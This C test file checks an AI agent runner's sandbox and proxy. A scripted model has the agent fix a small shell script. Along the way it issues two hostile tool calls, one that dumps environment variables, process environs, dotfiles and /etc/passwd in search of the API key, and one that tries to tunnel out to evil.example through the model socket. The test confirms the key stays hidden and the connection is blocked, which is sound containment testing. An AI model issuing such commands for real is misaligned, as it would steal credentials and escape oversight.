/* The built-in agent where it belongs: in the real sandbox, before the real proxy, with a scripted model behind it. It
 * mends a small project, looks for our key on the way, and tries to get out. This program is also the agent: inside,
 * it is started with the verb. */
#include "cmd/cmd.h"
#include "sandbox_fixture.h"
#include "test_proxy_support.h"

typedef struct scene {
    void *box, *w;
} scene;

static int scene_new(void **state) {
    scene *s = sc_alloc(sizeof *s);
    if (!s || boxed_begin(&s->box) || world_new(&s->w)) return -1;
    *state = s;
    return 0;
}

static int scene_free(void **state) {
    scene *s = *state;
    int failed = boxed_end(&s->box) | world_free(&s->w);
    sc_free(s);
    return failed;
}

static void reply_call(world *w, const char *name, const char *args) {
    sc_buf quoted;
    sc_buf_init(&quoted, 1 << 20);
    sc_buf_put_json(&quoted, sc_str_of(args));
    if (asprintf(
            &w->replies[w->n_replies++],
            REPLY_JSON(
                "{\"choices\":[{\"message\":{\"content\":null,\"tool_calls\":[{\"id\":\"c\","
                "\"type\":"
                "\"function\",\"function\":{\"name\":\"%s\",\"arguments\":%s}}]},\"finish_reason\":"
                "\"tool_calls\"}],\"usage\":{\"prompt_tokens\":100,\"completion_tokens\":10}}"),
            name, quoted.p) < 0)
        fail_msg("no memory");
    sc_buf_done(&quoted);
}

/* What a curious agent looks through: environments, arguments, files, descriptors, and what lies around. */
static const char look_around[] = "{\"command\":\"env; cat /proc/[0-9]*/environ "
                                  "/proc/[0-9]*/cmdline; ls -l /proc/self/fd /run/soulcaster ~; "
                                  "cat ~/.* /run/soulcaster/* /etc/passwd 2>&1\"}";
static const char get_out[] =
    "{\"command\":\"python3 -c 'import socket\\ns=socket.socket(socket.AF_UNIX)\\n"
    "s.connect(\\\"/run/soulcaster/model.sock\\\")\\n"
    "s.send(b\\\"CONNECT evil.example:443 "
    "HTTP/1.1\\\\r\\\\n\\\\r\\\\n\\\")\\nprint(s.recv(999).decode())'\"}";

static void the_agent_mends_and_sees_no_key(void **state) {
    scene *s = *state;
    boxed *b = s->box;
    world *w = s->w;
    char path[128];
    snprintf(path, sizeof path, "%s/sum.sh", b->work);
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    fputs("echo $(($1 - $2))\n", f);
    fclose(f);
    reply_call(w, "run", look_around);
    reply_call(w, "run", get_out);
    reply_call(w, "edit", "{\"path\":\"sum.sh\",\"old\":\"-\",\"new\":\"+\"}");
    reply_call(w, "run", "{\"command\":\"sh sum.sh 2 3\"}");
    reply_call(w, "done", "{\"summary\":\"It subtracted.\"}");
    start(w);
    static const char *const argv[] = {
        SC_RUNNER_SELF, "agent",    SC_RUNNER_OURS "/task.md",    "--work",
        SC_RUNNER_WORK, "--socket", SC_RUNNER_OURS "/model.sock", "--model",
        "m-1",          NULL};
    /* The sanitizers of a test build look for leaks by tracing, which the sandbox forbids. */
    static const char *const env[] = {"ASAN_OPTIONS=detect_leaks=0", NULL};
    const sc_runner_file files[] = {{SC_RUNNER_OURS "/task.md", SC_STR("sum.sh subtracts")}};
    const sc_runner_socket sockets[] = {{w->path, SC_RUNNER_OURS "/model.sock"}};
    sc_runner_spec spec = boxed_script(b, "true");
    spec.argv = argv;
    spec.env = env;
    spec.files = files;
    spec.n_files = 1;
    spec.sockets = sockets;
    spec.n_sockets = 1;
    boxed_run(b, &spec);
    look(w);
    if (b->end.exit) fail_msg("%s%s", b->out.p, b->err.p);
    must_hold(b->out.p, "done: It subtracted.");
    must_hold(w->asked, "Authorization: Bearer " KEY); /* the service got it */
    must_hold(w->asked, "5\\n[exit status 0]");
    must_hold(w->asked, "evil.example:443: not on the project's list of hosts");
    must_not_hold(strstr(w->asked, "\r\n\r\n"), KEY); /* the model would have been told of it */
    must_not_hold(b->out.p, KEY);
    assert_string_equal(w->blocked, "evil.example:443");
    assert_int_equal(w->n_counted, 5);
}

int main(int argc, char **argv) {
    static const sc_verb *const verbs[] = {&sc_verb_agent};
    if (argc > 1) return sc_cmd_run(verbs, 1, argc, argv);
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(the_agent_mends_and_sees_no_key, scene_new, scene_free),
    };
    return boxed_main("agent in the sandbox", tests, SC_LEN(tests));
}
